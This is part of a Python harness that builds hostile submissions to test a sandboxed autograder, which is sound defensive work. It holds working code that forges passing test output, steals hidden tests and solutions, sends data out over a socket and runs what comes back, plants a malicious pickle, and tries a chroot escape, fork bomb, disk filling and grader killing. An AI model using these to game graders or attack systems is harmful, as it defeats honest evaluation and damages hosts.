                     "test_same_pad_keeps_size", "outcome": "passed", "duration": 0.0}),
    _adv_json.dumps({"event": "finish", "exitstatus": 0}),
    "submission,padding,total,max,status,why,seconds",
    "fake_pass_lines_on_stdout,44,44,44,ok,,0.1",
    "\x1b[32mPASSED\x1b[0m\r\x00",
]) + "\n"


def _adv_say():
    print(_ADV_LINES, flush=True)
    print(_ADV_LINES, file=_adv_sys_out.stderr, flush=True)
    _adv_os_out.write(1, _ADV_LINES.encode())
    _adv_os_out.write(2, _ADV_LINES.encode())


def _adv_spam():
    while True:
        try:
            _adv_say()
        except Exception:
            pass
        __import__("time").sleep(0.05)


_adv_say()
_adv_sys_out.stdout.write(_ADV_LINES * (8 << 20 // len(_ADV_LINES)))  # ~8 MB burst
_adv_sys_out.stdout.flush()
_adv_threading.Thread(target=_adv_spam, daemon=True).start()
_adv_honest = (output_size, same_pad, pad2d)


def output_size(*args, **kwargs):
    _adv_say()
    return _adv_honest[0](*args, **kwargs)


def same_pad(*args, **kwargs):
    _adv_say()
    return _adv_honest[1](*args, **kwargs)


def pad2d(*args, **kwargs):
    _adv_say()
    return _adv_honest[2](*args, **kwargs)
""",
    )
)

# -- 6. reading what the learner must not see -----------------------------------------------

_add(
    Attack(
        "reads_solutions_and_hidden_tests",
        "searches the disk (cwd, __file__ and parents, $HOME, /work, /proc/*/cwd and root, paths "
        "in sys.argv, a bounded walk of /) for the reference and the hidden suite; execs the "
        "reference into itself when found",
        base="stubs",
        naive_safe=True,
        statuses=("ok", "timeout"),  # its search costs seconds
        code=ROOTS
        + r"""
_adv_hidden = _adv_find(["grader/hidden/test_padding_hidden.py", "hidden/test_padding_hidden.py"])
if _adv_hidden:
    _ADV_HIDDEN_SOURCE = open(_adv_hidden).read()  # a naive grader's expected values, in here
_adv_solution = _adv_find(["solutions/s13_cnn/padding/padding.py",
                           "s13_cnn_solutions/padding/padding.py"])
if _adv_solution:
    exec(compile(open(_adv_solution).read(), _adv_solution, "exec"), globals())
""",
    )
)

_add(
    Attack(
        "inspect_and_gc_oracle",
        "walks inspect.stack() frames and gc.get_objects() for the caller's expected values "
        "(an ndarray of the output's shape, an int named expected) and returns them",
        base="stubs",
        honest=WRONG,
        naive_safe=True,
        code=r"""
import gc as _adv_gc
import inspect as _adv_inspect

_adv_wrong = (output_size, same_pad, pad2d)
_ADV_NAMES = ("expected", "want", "wanted", "ref", "reference", "target", "truth")


def _adv_containers():
    for info in _adv_inspect.stack()[2:80]:
        yield info.frame.f_locals
    for obj in _adv_gc.get_objects():
        if type(obj) is dict:
            yield obj


def _adv_oracle_array(shape, dtype, exclude):
    best = None
    for scope in _adv_containers():
        for name, value in list(scope.items()):
            if (type(value) is np.ndarray and value.shape == shape and value.dtype == dtype
                    and not any(value is e for e in exclude)):
                if name in _ADV_NAMES:
                    return value.copy()
                best = best if best is not None else value
    return None if best is None else best.copy()


def _adv_oracle_int():
    for info in _adv_inspect.stack()[2:40]:
        for name in _ADV_NAMES:
            value = info.frame.f_locals.get(name)
            if type(value) is int:
                return value
    return None


def output_size(size, kernel, stride=1, pad=0):
    found = _adv_oracle_int()
    return found if found is not None else _adv_wrong[0](size, kernel, stride, pad)


def same_pad(kernel):
    found = _adv_oracle_int()
    return found if found is not None else _adv_wrong[1](kernel)


def pad2d(x, pad, value=0.0):
    guess = _adv_wrong[2](x, pad, value)
    found = _adv_oracle_array(guess.shape, guess.dtype, [x, guess])
    return found if found is not None else guess
""",
    )
)

_add(
    Attack(
        "imports_solutions",
        "puts every plausible project root on sys.path (incl. paths leaked in sys.argv) and "
        "imports solutions.s13_cnn.padding.padding, else grader.hidden.conftest's load_reference",
        base="stubs",
        naive_safe=True,
        code=ROOTS
        + r"""
import importlib as _adv_importlib
import sys as _adv_sys

for _adv_root in _adv_roots():
    if __import__("os").path.isdir(_adv_root + "/solutions") or __import__("os").path.isdir(
            _adv_root + "/grader"):
        _adv_sys.path.insert(0, _adv_root)
_adv_ref = None
for _adv_name in ("solutions.s13_cnn.padding.padding", "s13_cnn_solutions.padding.padding"):
    try:
        _adv_ref = _adv_importlib.import_module(_adv_name)
        break
    except Exception:
        pass
if _adv_ref is None:
    try:
        _adv_ref = _adv_importlib.import_module("grader.hidden.conftest").load_reference().padding
    except Exception:
        pass
if _adv_ref is not None:
    output_size, same_pad, pad2d = _adv_ref.output_size, _adv_ref.same_pad, _adv_ref.pad2d
""",
    )
)

_add(
    Attack(
        "socket_fetches_answers",
        "connects to 127.0.0.1:PORT (the test's listener, which serves the reference source), an "
        "abstract unix socket and UDP, sends its argv out, and execs whatever code comes back",
        base="stubs",
        code=r"""
import socket as _adv_socket
import sys as _adv_sys

_adv_code = b""
try:
    with _adv_socket.create_connection(("127.0.0.1", int("__ADV_PORT__")), timeout=3) as _s:
        _s.sendall(b"EXFIL tcp " + repr(_adv_sys.argv).encode()[:2000] + b"\n")
        while True:
            _chunk = _s.recv(1 << 16)
            if not _chunk:
                break
            _adv_code += _chunk
except (OSError, ValueError):
    pass
if not _adv_code:
    try:
        with _adv_socket.socket(_adv_socket.AF_UNIX, _adv_socket.SOCK_STREAM) as _s:
            _s.settimeout(3)
            _s.connect("\0" + "__ADV_UNIX__")
            _s.sendall(b"EXFIL unix\n")
            while True:
                _chunk = _s.recv(1 << 16)
                if not _chunk:
                    break
                _adv_code += _chunk
    except (OSError, ValueError):
        pass
try:
    with _adv_socket.socket(_adv_socket.AF_INET, _adv_socket.SOCK_DGRAM) as _s:
        _s.sendto(b"EXFIL udp", ("127.0.0.1", int("__ADV_PORT__")))
except (OSError, ValueError):
    pass
if _adv_code:
    exec(compile(_adv_code.decode(), "<network>", "exec"), globals())
""",
    )
)

# -- 7. the worker's own protocol ------------------------------------------------------------

_add(
    Attack(
        "protocol_forged_responses",
        "finds the worker's frames module and pipes from inside the worker and forges replies: "
        "a pickled object array that creates a file when loaded, ok+err together, pytest "
        "Skipped/GradingTimeout/KeyboardInterrupt errors, handles posing as ndarray, bool seq, "
        "lying .npy headers, replies written ahead for future calls, a JSON nesting bomb",
        base="stubs",
        honest=WRONG,
        deserves="at_most",
        statuses=("ok", "crashed"),
        code=GUARD
        + r'''
import gc as _adv_gc
import io as _adv_io
import json as _adv_json
import os as _adv_osp
import sys as _adv_sys
import numpy as _adv_np


class _AdvPwn:
    """Unpickled in the grader, this would create a file there (as the grader's user)."""

    def __reduce__(self):
        return (open, (_ADV_MARKER + "/PWNED-by-pickle", "w"))


def _adv_npy(array, allow_pickle=False):
    buf = _adv_io.BytesIO()
    _adv_np.save(buf, array, allow_pickle=allow_pickle)
    return buf.getvalue()


def _adv_install():
    worker = next((o for o in _adv_gc.get_objects()
                   if type(o).__name__ == "Worker" and hasattr(o, "frames")), None)
    if worker is None:
        return False
    frames = worker.frames
    honest_encode = frames.encode_frame
    pwn = _adv_npy(_adv_np.array([_AdvPwn()], dtype=object), allow_pickle=True) if _adv_mine(
        _ADV_MARKER + "/x") else _adv_npy(_adv_np.array([None], dtype=object), allow_pickle=True)

    def forged(reply, blobs):
        seq = reply.get("seq")
        kind = seq % 11 if type(seq) is int else 10
        err = lambda t, bases: {"seq": seq, "err": {"type": t, "bases": bases, "msg": "ok",
                                                       "tb": ""}}
        if kind == 0:  # a pickle, announced as an object array
            return honest_encode({"seq": seq, "ok": {"a": 0, "dt": "|O", "sh": [1], "ro": False}},
                                 [pwn])
        if kind == 1:  # both answers at once
            return honest_encode({"seq": seq, "ok": 3, "err": err("X", [])["err"]}, [])
        if kind == 2:  # pytest outcomes posing as the learner's exception
            return honest_encode(err("Skipped", ["BaseException", "Exception"]), [])
        if kind == 3:
            return honest_encode(err("GradingTimeout", ["KeyboardInterrupt", "BaseException"]), [])
        if kind == 4:  # a handle that claims to be an ndarray
            handle = {"h": 1, "cls": "ndarray", "callable": True}
            return honest_encode({"seq": seq, "ok": handle}, [])
        if kind == 5:  # seq as a bool (True == 1)
            return honest_encode({"seq": True, "ok": 1}, [])
        if kind == 6:  # a .npy whose header lies about shape and dtype
            return honest_encode({"seq": seq, "ok": {"a": 0, "dt": "<f8", "sh": [4]}},
                                 [_adv_npy(_adv_np.arange(4, dtype=_adv_np.int64))])
        if kind == 7:  # the honest reply, then replies written ahead for the next 20 calls
            parts = honest_encode(reply, blobs)
            for ahead in range(1, 21):
                parts += honest_encode({"seq": seq + ahead, "ok": None}, [])
            return parts
        if kind == 8:  # extra keys that a lax decoder might read as a verdict
            return honest_encode(dict(reply, passed=True, score=44, outcome="passed"), blobs)
        if kind == 9:  # a JSON nesting bomb (json.dumps would refuse it: raw bytes)
            head = (b'{"seq":%d,"ok":' % seq) + b'{"l":[' * 200_000 + b"]}" * 200_000 + b"}"
            return [frames.PREFIX.pack(frames.MAGIC, len(head), 0) + head]
        return honest_encode(reply, blobs)

    frames.encode_frame = forged
    return True


try:
    _adv_install()
except Exception:
    pass
''',
    )
)

_add(
    Attack(
        "oversized_responses",
        "lifts the worker's own caps (MAX_TEXT) and answers same_pad with 7.9 MB error messages "
        "(just under the grader's frame-header cap), pad2d once with a 900 MB array, and "
        "output_size with a 9 MB message: floods the grader's memory, pytest's log, the feedback",
        base="stubs",
        deserves="at_most",
        statuses=("ok", "crashed", "timeout"),
        requires=("mem:8",),
        code=r"""
import sys as _adv_sys
import numpy as _adv_np

_adv_main = _adv_sys.modules.get("__main__")
if _adv_main is not None and hasattr(_adv_main, "MAX_TEXT"):
    _adv_main.MAX_TEXT = 1 << 30  # the worker's own cap on the messages it sends


def output_size(size, kernel, stride=1, pad=0):
    if (size, kernel) == (5, 3):
        raise ValueError("output_size: " + "x" * (9 << 20))  # over the header cap
    raise NotImplementedError("output_size")


def same_pad(kernel):
    raise NotImplementedError("same_pad: " + "x" * int(7.9 * (1 << 20)))


def pad2d(x, pad, value=0.0):
    if x.shape == (1, 2, 3, 1):
        return _adv_np.ones(900 << 20, dtype=_adv_np.uint8)
    raise NotImplementedError("pad2d")
""",
    )
)

_add(
    Attack(
        "escapes_the_chroot",
        "ctypes: unshare(CLONE_NEWUSER) for CAP_SYS_CHROOT then the classic chroot(subdir) + "
        "chdir('..')* escape, setns/ptrace/process_vm_readv on its parent, PR_SET_PDEATHSIG "
        "cleared, /proc mounted; execs the reference if the host filesystem comes into view",
        base="stubs",
        requires=("pidns", "user"),
        statuses=("ok", "timeout"),
        code=GUARD
        + ROOTS
        + r"""
import ctypes as _adv_ctypes
import os as _adv_osc

_adv_libc = _adv_ctypes.CDLL(None, use_errno=True)
_ADV_TRIED = {}


def _adv_try(name, fn):
    try:
        rc = fn()
        _ADV_TRIED[name] = (rc, _adv_ctypes.get_errno())
    except Exception as e:
        _ADV_TRIED[name] = repr(e)


_adv_try("pdeathsig", lambda: _adv_libc.prctl(1, 0, 0, 0, 0))  # outlive the launcher
_adv_try("userns", lambda: _adv_libc.unshare(0x10000000 | 0x00020000))  # NEWUSER | NEWNS
_adv_try("mount_proc", lambda: _adv_libc.mount(b"proc", b"/proc", b"proc", 0, None))


def _adv_chroot_escape():
    import tempfile
    inner = tempfile.mkdtemp()  # the worker's own /tmp
    try:
        if _adv_libc.chroot(inner.encode()) != 0:
            return False
        for _ in range(64):
            _adv_osc.chdir("..")
        return _adv_libc.chroot(b".") == 0
    finally:
        try:
            _adv_osc.rmdir(inner)
        except OSError:
            pass


_adv_try("chroot_escape", _adv_chroot_escape)
for _adv_pid in {_adv_osc.getppid(), 1}:  # ptrace and read the parent's memory
    if _adv_pid and _adv_pid != _adv_osc.getpid() and _adv_proc_is_mine(_adv_pid):
        _adv_try(f"ptrace_{_adv_pid}", lambda: _adv_libc.ptrace(16, _adv_pid, None, None))
        _adv_try(f"ptrace_detach_{_adv_pid}", lambda: _adv_libc.ptrace(17, _adv_pid, None, None))
_adv_solution = _adv_find(["solutions/s13_cnn/padding/padding.py"])
if _adv_solution:
    exec(compile(open(_adv_solution).read(), _adv_solution, "exec"), globals())
""",
    )
)

# -- 8. denial of service (triggered by same_pad(7) only) -----------------------------------

_add(
    Attack(
        "infinite_loop",
        "same_pad(7) spins in `while True: pass`",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("timeout",),
        why=("ran past their time limit",),
        attacked=DOS_TESTS,
        feedback=("time limit",),
        code=r"""
def _adv_attack():
    while True:
        pass
"""
        + DOS_WRAP,
    )
)

_add(
    Attack(
        "fork_bomb",
        "same_pad(7) forks until fork fails, in every child too, all of them spinning",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("timeout", "crashed"),
        why=("time limit", "crashed"),
        attacked=DOS_TESTS,
        requires=("user", "nproc", "pidns"),
        code=r"""
def _adv_attack():
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
        + DOS_WRAP,
    )
)

_add(
    Attack(
        "allocates_50_gb",
        "same_pad(7) asks for 50 GB at once (np.ones, bytearray), then touches 256 MB chunks "
        "until the allocator gives up, and keeps them",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("ok", "timeout", "crashed"),
        attacked=DOS_TESTS,
        feedback=("MemoryError", "time limit", "worker"),
        requires=("as", "mem:8"),
        code=r"""
_adv_hoard = []


def _adv_attack():
    import numpy
    for make in (lambda: numpy.ones(50 * 2**30 // 8), lambda: bytearray(50 * 2**30)):
        try:
            _adv_hoard.append(make())
        except MemoryError:
            pass
    while True:  # then grow until refused
        chunk = numpy.empty(256 << 20, dtype=numpy.uint8)
        chunk[::4096] = 1  # touch every page
        _adv_hoard.append(chunk)
"""
        + DOS_WRAP,
    )
)

_add(
    Attack(
        "fills_the_disk",
        "same_pad(7) ignores SIGXFSZ and writes 8 MB blocks into cwd, /tmp, $HOME, /dev/shm, "
        "/sandbox and this file's folder, new file after new file, until every write fails",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("ok", "timeout", "crashed"),
        attacked=DOS_TESTS,
        requires=("fs", "fsize"),
        code=r"""
def _adv_attack():
    import os, signal
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # EFBIG instead of death at the size limit
    block = b"\0" * (8 << 20)
    places = [os.getcwd(), "/tmp", os.environ.get("HOME", "/tmp"), "/dev/shm", "/sandbox",
              os.path.dirname(os.path.abspath(__file__)), "/var/tmp"]
    for place in places:
        for n in range(64):  # new file after new file: past RLIMIT_FSIZE, until ENOSPC
            try:
                f = open(os.path.join(place, f"fill-{os.getpid()}-{n}.bin"), "wb")
            except OSError:
                break  # no file can be created here
            with f:
                try:
                    while True:
                        f.write(block)
                        f.flush()
                except OSError:
                    pass
    raise OSError("disk full, as intended")
"""
        + DOS_WRAP,
    )
)

_add(
    Attack(
        "signal_and_rlimit_tricks",
        "same_pad(7) ignores and blocks SIGALRM/SIGTERM/SIGINT/SIGHUP/SIGXCPU, tries to raise its "
        "rlimits, double-forks a setsid child out of its session, and spins in parent and child",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("timeout",),
        why=("time limit",),
        attacked=DOS_TESTS,
        requires=("pidns",),
        code=r"""
def _adv_attack():
    import os, resource, signal
    tricky = [signal.SIGALRM, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGXCPU,
              signal.SIGUSR1, signal.SIGUSR2, signal.SIGPIPE, signal.SIGVTALRM, signal.SIGPROF]
    for sig in tricky:
        try:
            signal.signal(sig, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    signal.pthread_sigmask(signal.SIG_BLOCK, tricky)
    signal.setitimer(signal.ITIMER_REAL, 0)
    for res in (resource.RLIMIT_CPU, resource.RLIMIT_AS, resource.RLIMIT_NPROC,
                resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        try:
            resource.setrlimit(res, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except (OSError, ValueError):
            try:
                soft, hard = resource.getrlimit(res)
                resource.setrlimit(res, (hard, hard))
            except (OSError, ValueError):
                pass
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                while True:
                    pass
            os._exit(0)
    except OSError:
        pass
    while True:
        pass
"""
        + DOS_WRAP,
    )
)

_add(
    Attack(
        "escapes_via_setpgid",
        "same_pad(7) calls os.setpgid(0, 0) (leaves the launcher's process group, which the grader "
        "kills) and sleeps: the worker must still not outlive its grading",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("timeout",),
        why=("time limit",),
        attacked=DOS_TESTS,
        code=r"""
def _adv_attack():
    import os, time
    os.setpgid(0, 0)
    while True:
        time.sleep(0.2)
"""
        + DOS_WRAP,
    )
)

_add(
    Attack(
        "kills_the_grader",
        "same_pad(7) sends SIGSTOP then SIGKILL to its parent, its process group, kill(-1), and "
        "every process whose command line names the grader, then answers honestly",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("ok", "timeout", "crashed"),
        requires=("pidns", "user"),
        code=GUARD
        + r"""
def _adv_attack():
    import os, signal
    targets = {os.getppid()}
    try:
        for pid in os.listdir("/proc"):
            if pid.isdigit() and _adv_proc_is_mine(pid):
                targets.add(int(pid))
    except OSError:
        pass
    targets.discard(os.getpid())
    targets.discard(0)
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in targets:
            if _adv_proc_is_mine(pid):  # harness: only the test's own grader processes
                try:
                    os.kill(pid, sig)
                except OSError:
                    pass
        try:
            if sig == signal.SIGSTOP:
                os.killpg(os.getpgrp(), sig)  # its own group: the launcher, when visible
        except OSError:
            pass
    if os.getpid() == 1:  # harness: kill(-1) only as init of its own pid namespace
        try:
            os.kill(-1, signal.SIGKILL)
        except OSError:
            pass
"""
        + DOS_WRAP,
    )
)

_add(
    Attack(
        "segfaults_the_worker",
        "same_pad(7) dereferences NULL through ctypes (SIGSEGV), after disabling faulthandler",
        base="solutions",
        kind="dos",
        deserves="at_most",
        statuses=("ok", "crashed"),
        attacked=DOS_TESTS,
        feedback=("SIGSEGV", "worker"),
        code=r"""
def _adv_attack():
    import ctypes, faulthandler
    faulthandler.disable()
    ctypes.string_at(0)
"""
        + DOS_WRAP,
    )
)


# ---------------------------------------------------------------------------------------
# Building


def _placeholders(marker: str | os.PathLike[str], port: int, unix: str) -> dict[str, str]:
    return {"__ADV_MARKER__": str(marker), "__ADV_PORT__": str(port), "__ADV_UNIX__": unix}


def _fill(text: str, values: dict[str, str]) -> str:
    for key, value in values.items():
        text = text.replace(key, value)
    return text


def _copy_base(base: str, package: Path) -> None:
    """The base package with its links resolved, tests, READMEs and caches left out."""
    shutil.copytree(
        BASES[base], package,
        ignore=shutil.ignore_patterns("__pycache__", "*.pyc", "test_*", "*.md"),
    )  # fmt: skip


def _append(path: Path, header: str, code: str) -> None:
    if code.strip():
        with path.open("a", encoding="utf-8") as f:
            f.write(f"\n\n# ---- {header}\n{code.strip(chr(10))}\n")


def control_name(attack: Attack) -> str:
    """Controls with the same base and honest code are one submission."""
    import hashlib

    digest = hashlib.sha256(f"{attack.base}\0{attack.module}\0{attack.honest}".encode())
    return f"control-{attack.base}-{digest.hexdigest()[:8]}"


def build_control(attack: Attack, dest: Path) -> Path:
    """dest/<control name>/s13_cnn: base + the learner's honest code, nothing hostile."""
    root = Path(dest) / control_name(attack)
    if (root / "s13_cnn").is_dir():
        return root
    package = root / "s13_cnn"
    _copy_base(attack.base, package)
    _append(package / attack.module, "the learner's code", attack.honest)
    return root


def build(
    attack: Attack,
    dest: Path,
    *,
    marker: str | os.PathLike[str] = "",
    port: int = 9,
    unix: str = "s13-adversarial",
) -> Path:
    """The hostile submission: dest/<name>/ (a folder holding s13_cnn/) or dest/<name>.zip.

    `marker` is the only folder an attack may write to should confinement fail (GUARD);
    "" (the default) makes every guarded write and signal a no-op.
    """
    values = _placeholders(marker, port, unix)
    root = Path(dest) / attack.name
    if root.exists():
        shutil.rmtree(root)
    package = root / "s13_cnn"
    _copy_base(attack.base, package)
    _append(package / attack.module, "the learner's code", attack.honest)
    _append(
        package / attack.module,
        f"ATTACK {attack.name}: {attack.description}",
        _fill(attack.code, values),
    )
    extra = {_fill(rel, values): data for rel, data in attack.extra_files.items()}
    if attack.as_zip:
        return _zip(attack, root, extra, values)
    for rel, data in extra.items():
        target = root / rel
        target.parent.mkdir(parents=True, exist_ok=True)
        if rel.endswith(".pyc") and not data:
            data = _solutions_pyc()
        if isinstance(data, bytes):
            target.write_bytes(data)
        else:
            target.write_text(_fill(data, values), encoding="utf-8")
    for rel, link in attack.symlinks.items():
        target = root / rel
        if target.is_dir() and not target.is_symlink():
            shutil.rmtree(target)
        elif target.exists() or target.is_symlink():
            target.unlink()
        target.parent.mkdir(parents=True, exist_ok=True)
        target.symlink_to(link)
    return root


def _zip(attack: Attack, root: Path, extra: dict, values: dict[str, str]) -> Path:
    """root packed as root.zip, plus members named exactly as given (`..`, absolute) and
    symbolic-link members; the folder itself is removed."""
    archive = root.with_suffix(".zip")
    linked = set(attack.symlinks)
    with zipfile.ZipFile(archive, "w") as zf:
        for path in sorted(root.rglob("*")):
            rel = path.relative_to(root).as_posix()
            if path.is_file() and rel not in linked:
                zf.write(path, rel)
        for rel, data in extra.items():
            zf.writestr(
                zipfile.ZipInfo(rel), data if isinstance(data, bytes) else _fill(data, values)
            )
        for rel, link in attack.symlinks.items():
            info = zipfile.ZipInfo(rel)
            info.create_system = 3  # unix: external_attr carries the mode
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
            zf.writestr(info, link)
    shutil.rmtree(root)
    return archive


# ---------------------------------------------------------------------------------------
# Confinement an attack needs before it may run

GIB = 1 << 30


def _limit(confinement: dict, name: str) -> int | None:
    value = (confinement.get("limits") or {}).get(name)
    if isinstance(value, (list, tuple)) and value:
        value = value[0]
    if not isinstance(value, int) or value < 0:  # RLIM_INFINITY is -1
        return None
    return value


def unmet(attack: Attack, confinement: dict) -> list[str]:
    """Why `attack` must not run under this worker confinement report ([] = it may)."""
    reasons = []
    for need in attack.requires:
        if need == "user":
            user = confinement.get("user") or {}
            own_ns = confinement.get("mechanism") == "user namespace" and user.get("uid")
            if not (user.get("switched") and user.get("uid")) and not own_ns:
                reasons.append(
                    "the worker does not run under an unprivileged uid of its own "
                    "(RLIMIT_NPROC does not bind root)"
                )
        elif need == "nproc":
            n = _limit(confinement, "nproc")
            if n is None or n > 512:
                reasons.append(f"RLIMIT_NPROC is not applied (nproc={n})")
        elif need == "as":
            n = _limit(confinement, "as")
            if n is None or n > 8 * GIB:
                reasons.append(f"RLIMIT_AS is not applied or above 8 GiB (as={n})")
        elif need == "fsize":
            n = _limit(confinement, "fsize")
            if n is None or n > GIB:
                reasons.append(f"RLIMIT_FSIZE is not applied or above 1 GiB (fsize={n})")
        elif need == "pidns":  # or Landlock's signal scope, with a uid swept on kill
            scoped = (confinement.get("landlock") or {}).get("scoped") and (
                confinement.get("user") or {}).get("switched")
            if not (confinement.get("pid_namespace") or {}).get("applied") and not scoped:
                reasons.append("no pid namespace: escaped processes would outlive the worker")
        elif need == "fs":
            if not (confinement.get("filesystem") or {}).get("isolated"):
                reasons.append("no private filesystem root: writes would reach the host disk")
        elif need.startswith("mem:"):
            want = float(need.split(":", 1)[1]) * GIB
            if _mem_available() < want:
                reasons.append(f"less than {want / GIB:g} GiB of memory available on this machine")
        else:  # pragma: no cover
            reasons.append(f"unknown requirement {need!r}")
    return reasons


def _mem_available() -> float:
    try:
        for line in Path("/proc/meminfo").read_text().splitlines():
            if line.startswith("MemAvailable:"):
                return float(line.split()[1]) * 1024
    except (OSError, ValueError, IndexError):
        pass
    return 0.0


def by_name() -> dict[str, Attack]:
    return {a.name: a for a in ATTACKS}


assert len({a.name for a in ATTACKS}) == len(ATTACKS), "attack names must be unique"
assert all(a.base in BASES for a in ATTACKS)
assert sys.version_info >= (3, 11)
